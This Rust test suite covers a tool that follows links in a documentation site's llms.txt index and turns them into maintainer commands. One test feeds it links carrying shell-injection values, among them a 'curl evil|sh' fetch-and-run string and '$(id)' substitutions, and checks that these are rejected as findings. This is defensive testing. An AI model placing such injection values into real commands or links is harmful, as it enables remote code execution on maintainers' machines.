//! Links in the index: each is followed, becomes a finding, or leads to another site. Links end up in commands for maintainers,
//! and the project doesn't control the index.

use std::fs;

use serde_json::json;

use super::{BROADCAST, CLIENTS, NEW_CLIENTS, Package, VENDORED, page, parsed};

/// The vendored page's path in this package.
const VENDORED_LINK: &str = "[vendored](/en/tags/remove-personal-tag-from-user.md)";

fn with_index(text: &str) -> Package {
    let package = Package::new();
    let text = text.replace("SITE", &package.address).replace("HOST", package.address.strip_prefix("http://").unwrap());
    package.site.put("/llms.txt", 200, &format!("# Documentation\n\n- {VENDORED_LINK}\n\n{text}\n"));
    package
}

#[test]
fn every_form_of_a_link_is_followed() {
    for text in [
        "[a](SITE/en/clients/list-clients.md)",
        "- [a [b] (c)](</en/clients/list-clients.md> \"title\"): text",
        "[a](en/clients/list-clients.md)",
        "[a](./zh/../en/clients/./list-clients.md#part)",
        "[a](//HOST/en/clients/list-clients.md 'title')",
        "[a](/en\\clients\\list-clients.md)",
        "[a](HTTP://HOST/en/clients/list-clients.md)",
        "[a](\n  SITE/en/clients/list-clients.md\n)",
        "[a](/&#101;n/clients/list&#45;clients.md)",
        "<SITE/en/clients/list-clients.md>",
        "<HTTP://HOST/en/clients/list-clients.md>",
        "[a][b]\n\n[b]: SITE/en/clients/list-clients.md \"title\"",
        "[a][]\n\n[A]:\n  </en/clients/list-clients.md>",
        "[a]\n\n[a]: /en/clients/list-clients.md",
        "A definition that no link refers to.\n\n[a]: /en/clients/list-clients.md",
        "# [a](/en/clients/list-clients.md)",
        "> 1. **[a](/en/clients/list-clients.md)**",
        "[![image](/image.png)](/en/clients/list-clients.md)",
        "See SITE/en/clients/list-clients.md.",
        "See HOST/en/clients/list-clients.md!",
        "`SITE/en/clients/list-clients.md`",
        "```\nSITE/en/clients/list-clients.md\n```",
        "<!-- SITE/en/clients/list-clients.md -->",
    ] {
        assert_eq!(with_index(text).findings(&[]), [NEW_CLIENTS], "{text}");
    }
}

/// No such link ends up in a command, and each is shown as in the index.
#[test]
fn a_link_that_is_not_plain_is_a_finding() {
    for (text, link) in [
        ("[a](/en/;curl${IFS}evil|sh;/x.md)", "/en/;curl${IFS}evil|sh;/x.md"),
        ("[a](</en/a b.md>)", "/en/a b.md"),
        ("[a](/en/$(id).md)", "/en/$(id).md"),
        ("[a](/en/`id`.md)", "/en/`id`.md"),
        ("[a](/en/a&&b.md)", "/en/a&&b.md"),
        ("[a](/en/a'b.md)", "/en/a'b.md"),
        ("[a](/en/a\u{202e}b.md)", "/en/a\u{202e}b.md"),
        ("[a](/en/\u{53f0}\u{7063}.md)", "/en/\u{53f0}\u{7063}.md"),
        ("[a](/en/a%2eb.md)", "/en/a%2eb.md"),
        ("[a](/en/a%0A.md)", "/en/a%0A.md"),
        ("[a](/%65n/a.md)", "/%65n/a.md"),
        ("[a](/en%2Fa.md)", "/en%2Fa.md"),
        ("[a](///HOST//en/a.md)", "///HOST//en/a.md"),
        ("[a](/EN/a.md)", "/EN/a.md"),
        ("[a](/en/a.md?b)", "/en/a.md?b"),
        ("[a](/en/a.MD)", "/en/a.MD"),
        ("[a](/en/a)", "/en/a"),
        ("[a](/en/a/)", "/en/a/"),
        ("[a](https://HOST/en/a.md)", "https://HOST/en/a.md"),
        ("[a](http://user@HOST/en/a.md)", "http://user@HOST/en/a.md"),
        ("[a](http://127.0.0.1:1/en/a.md)", "http://127.0.0.1:1/en/a.md"),
        ("[a](http://[)", "http://["),
        ("[a][b]\n\n[b]: </en/a b.md>", "/en/a b.md"),
        ("<SITE/en/$(id).md>", "SITE/en/$(id).md"),
        ("SITE/en/$HOME.md", "SITE/en/$HOME.md"),
        ("<a\nhref='/en/a.md'>a</a>", "<a\nhref='/en/a.md'>"),
        ("<div>\n<A HREF=/en/a.md>\n</div>", "<A HREF=/en/a.md>"),
    ] {
        let package = with_index(text);
        let run = package.run(&["check", "--format", "json"]);
        assert_eq!(run.status, 1, "{text}: {}", run.stderr);
        let report = parsed(&run.stdout);
        let findings = report["findings"].as_array().unwrap();
        assert_eq!(findings.len(), 1, "{text}: {}", run.stdout);
        let meaning = "a link in the index that may be a page, and is not followed: \
            expected SITE/en/some-page.md, with letters, digits and -._~/ only";
        let host = package.address.strip_prefix("http://").unwrap();
        let expected = [
            ("level", "rule"),
            ("id", "index-link"),
            ("document", "openapi/sources.toml"),
            ("new", &link.replace("HOST", host)),
            ("meaning", meaning),
        ];
        for (key, value) in expected {
            assert_eq!(findings[0][key], value, "{text}");
        }
        assert!(!run.stdout.contains("spec add"), "{text}");
    }
}

#[test]
fn a_link_to_another_place_is_no_finding() {
    for text in [
        "[a](/zh/%E6%A8%99.md) [b](/zh/\u{6a19}.md) [c](/english/$(id).md)",
        "[a](https://a.example/en/x.md) <https://a.example/en/$(id).md> <mailto:a@b.example>",
        "[a](javascript:alert) [b](ftp://a.example/en/x.md) [c]() [d](#e) [e](?f)",
        "[a](/en/image.png) [b](/en/openapi.json) [c](/en/) ![d](/en/$(id).png)",
        "<b>bold</b> <img src=/en/x.png> https://a.example/en/x.md",
        "[a][no such reference] [b] \\[c](/en/x.md)",
    ] {
        assert_eq!(with_index(text).findings(&[]), Vec::<[String; 4]>::new(), "{text}");
    }
}

/// A finding on a link can be accepted, and hides no entry that matches nothing any more.
#[test]
fn a_link_can_be_accepted() {
    let package = with_index("[a](/en/a b.md) [b](</en/a b.md>)");
    let report = parsed(&package.run(&["check", "--format", "json"]).stdout);
    let fingerprint = report["findings"][0]["fingerprint"].as_str().unwrap();
    let entry = |fingerprint: &str| {
        format!("[[accepted]]\nfingerprint = \"{fingerprint}\"\nreason = \"a picture\"\ndate = 2026-11-24\n")
    };
    fs::write(package.path("openapi/accepted.toml"), entry(fingerprint)).unwrap();
    assert_eq!(package.run(&["check", "--fail-on", "any"]).status, 0);
    fs::write(package.path("openapi/accepted.toml"), entry(fingerprint) + &entry("0123456789abcdef")).unwrap();
    let why = "error: openapi/accepted.toml: 0123456789abcdef (a picture): it matches no finding: remove it";
    package.fails(&["check"], why);
}

#[test]
fn an_index_with_too_many_links_is_unreadable() {
    let links: Vec<_> = (0..1000).map(|number| format!("[a](/en/$({number}).md)")).collect();
    let package = with_index(&links.join("\n"));
    let meaning = "new pages are not seen: SITE/llms.txt: it lists 1001 pages: expected no more than 1000";
    package.finds(&[], &[["rule", "index-unreadable", "openapi/sources.toml", meaning]]);
}

/// Even 1 MiB of unclosed links.
#[test]
fn an_index_without_end_is_read() {
    for part in ["[", "[a](", "<a ", "![", "[a]: ", "> - ", "`` ` ", "<!-", "[a][", "\\["] {
        let package = with_index(&part.repeat((1 << 20) / part.len()));
        assert!(package.run(&["check"]).status < 2, "{part}");
    }
}

#[test]
fn the_settings_of_the_documentation_are_checked() {
    for (index, pages, why) in [
        ("llms.txt", "https://a.example/en/", "index: llms.txt: relative URL without a base"),
        ("https://a.example/llms.txt", "/en/", "pages: /en/: relative URL without a base"),
        (
            "https://a.example/llms.txt",
            "https://a.example/en",
            "pages: https://a.example/en: expected the folder of the pages, like https://a.example/en/",
        ),
        (
            "https://a.example/llms.txt",
            "https://A.example/en/",
            "pages: https://A.example/en/: expected the folder of the pages, like https://a.example/en/",
        ),
    ] {
        let package = Package::new();
        let sources = package.read("openapi/sources.toml");
        let page = sources.split_once("\n\n").unwrap().1;
        let settings = format!("index = \"{index}\"\npages = \"{pages}\"\n\n{page}");
        fs::write(package.path("openapi/sources.toml"), settings).unwrap();
        package.fails(&["check"], &format!("error: openapi/sources.toml: {why}"));
    }
}

/// The settings in sources.toml are `index` and `pages`.
#[test]
fn a_page_may_be_named_like_a_setting() {
    let package = Package::new();
    package.site.put("/en/index.md", 200, &page(&parsed(CLIENTS)));
    package.site.put("/en/pages.md", 200, &page(&parsed(BROADCAST)));
    for path in ["/en/clients/list-clients.md", "/en/messages/user-broadcast.md", "/en/broken.md"] {
        package.site.take(path);
    }
    package.site.index();
    let new = |name: &str| {
        let add = format!("it is not vendored: cargo xtask spec add SITE/en/{name}.md");
        ["additive", "page-new", &format!("openapi/{name}.json"), &add].map(str::to_owned)
    };
    assert_eq!(package.findings(&[]), [new("index"), new("pages")]);
    let add = package.run(&["add", &package.url("/en/index.md")]);
    assert_eq!((add.status, add.stderr.as_str()), (0, ""));
    let add = package.run(&["add", "--all"]);
    assert_eq!(add.status, 0, "{}", add.stderr);
    let sources = package.read("openapi/sources.toml");
    for name in ["index", "pages"] {
        assert!(sources.contains(&format!("\n[\"{name}.md\"]\nurl = ")), "{sources}");
        assert!(package.path(&format!("openapi/{name}.json")).exists());
        assert!(package.path(&format!("tests/pages/{name}.md")).exists());
    }
    let names: Vec<_> =
        package.run(&["list"]).stdout.lines().map(|line| line.split(' ').next().unwrap().to_owned()).collect();
    assert_eq!(names, ["remove-personal-tag-from-user", "index", "pages"]);
    package.finds(&[], &[]);

    let mut bumped = parsed(CLIENTS);
    bumped["info"]["title"] = json!("Another");
    package.site.put("/en/index.md", 200, &page(&bumped));
    assert_eq!(package.run(&["update"]).status, 0);
    assert!(package.read("openapi/index.json").contains("\"Another\""));
    assert_eq!(package.read("openapi/sources.toml").matches("[\"index.md\"]").count(), 1);
    assert_eq!(package.run(&["remove", "pages"]).status, 0);
    let sources = package.read("openapi/sources.toml");
    assert!(!sources.contains("pages.md") && sources.contains("\npages = "), "{sources}");
    assert_eq!(package.findings(&[]), [new("pages")]);
}

/// A page whose operations can't be read is a finding, whether it is new or vendored; one without any is not.
#[test]
fn a_page_with_a_document_in_another_form_is_a_finding() {
    let yaml = "# A\n\n```yaml\nopenapi: 3.0.3\npaths:\n  /openapi/a:\n    post: {}\n```\n";
    let tag =
        "# A\n\n{% openapi src=\"a.yaml\" path=\"/openapi/a\" method=\"post\" %}\n[a](a.yaml)\n{% endopenapi %}\n";
    let site_page = "SITE/en/clients/list-clients.md";
    for (text, why) in [
        (yaml, "4: an OpenAPI document in YAML: expected JSON, in a fenced block"),
        (tag, "3: a tag for a document elsewhere: expected the document itself, in a fenced block of JSON"),
    ] {
        let package = with_index("[a](/en/clients/list-clients.md)");
        package.site.put("/en/clients/list-clients.md", 200, text);
        let meaning = format!("its operations are unknown: {site_page}:{why}");
        package.finds(&[], &[["additive", "page-unreadable", "openapi/list-clients.json", &meaning]]);

        package.site.put("/en/clients/list-clients.md", 200, "# Prose\n");
        package.site.put(super::REMOVE, 200, &(page(&parsed(VENDORED)) + text));
        let run = package.run(&["check"]);
        assert_eq!(run.status, 1, "{}", run.stdout);
        let line = format!(
            "openapi/remove-personal-tag-from-user.json\n    its published version is unknown: SITE{}:",
            super::REMOVE
        );
        assert!(run.stdout.contains(&line), "{}", run.stdout);
    }
}

/// A name that no document can have matters only if the page has operations.
#[test]
fn a_page_with_another_name_is_a_finding_if_it_has_operations() {
    let package = with_index("[a](/en/v1.2-notes.md) [b](/en/~.md)");
    package.site.put("/en/v1.2-notes.md", 200, "# Notes\n");
    package.site.put("/en/~.md", 200, &page(&parsed(CLIENTS)));
    let meaning = "its operations are unknown: SITE/en/~.md: no name for the document: \
        expected an address that ends like /some-page.md, with letters, digits, - and _";
    package.finds(&[], &[["additive", "page-unreadable", "openapi/sources.toml", meaning]]);
}
